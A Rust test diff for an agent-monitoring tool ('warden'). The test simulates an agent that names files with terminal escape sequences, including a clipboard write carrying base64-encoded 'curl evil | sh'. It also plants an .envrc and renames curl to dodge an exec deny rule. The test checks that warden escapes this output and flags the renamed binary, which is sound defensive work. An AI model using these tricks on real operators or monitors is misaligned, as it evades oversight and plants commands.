@@ -868,3 +868,48 @@ fn existing_gitdir_file_cannot_be_repointed() {
     );
     judge(&t, &o);
 }
+
+/// Review F5: names the agent chooses reach warden's own stderr (the integrity report, the
+/// live risk lines, the end-of-run risk line) outside the pty filter. A directory and a
+/// binary named with OSC 52 (clipboard write), cursor-up/erase and a C1 CSI must show
+/// escaped, never as raw control bytes. The agent's own output goes to /dev/null, so every
+/// byte on stderr is warden's. The report still names the file (escaped).
+#[test]
+fn agent_chosen_names_reach_warden_stderr_escaped() {
+    let t = T::new("esc");
+    let policy = t.root.join("policy.toml");
+    std::fs::write(
+        &policy,
+        "[exec]\ndeny = [\"curl\"]\n[risk]\nwarn_at = 1\nfreeze_at = 1000\nkill_at = 2000\n",
+    )
+    .unwrap();
+    let o = t.sh_with(
+        &["--policy", policy.to_str().unwrap()],
+        r#"exec >/dev/null 2>&1
+d=$(printf 'README\r\033[2K\033[1A\033[2K\033]52;c;Y3VybCBldmlsIHwgc2gK\007\302\2332J')
+mkdir -p "$d" && echo 'touch /tmp/pwn' > "$d/.envrc"
+b=$(printf 'c\033]52;c;Y3VybCBldmlsIHwgc2gK\007\r\033[1A')
+cp /usr/bin/curl "./$b" && "./$b" --version
+sleep 0.5; true"#,
+    );
+    assert!(o.status.success(), "{}", out(&o));
+    let err = &o.stderr;
+    let shown = String::from_utf8_lossy(err);
+    // The report and the risk line were printed (so the check below has something to judge).
+    assert!(
+        shown.contains(".envrc") && shown.contains("]52;c;Y3VybCBldmlsIHwgc2gK"),
+        "no report line naming the file:\n{shown}"
+    );
+    assert!(
+        shown.contains("run under another name"),
+        "no risk line naming the binary:\n{shown}"
+    );
+    for (i, &b) in err.iter().enumerate() {
+        let raw_cr = b == b'\r' && err.get(i + 1) != Some(&b'\n');
+        let c1 = b == 0xc2 && err.get(i + 1) == Some(&0x9b);
+        assert!(
+            b != 0x1b && b != 0x07 && !raw_cr && !c1,
+            "raw control byte {b:#04x} at {i} on warden's stderr:\n{shown:?}"
+        );
+    }
+}
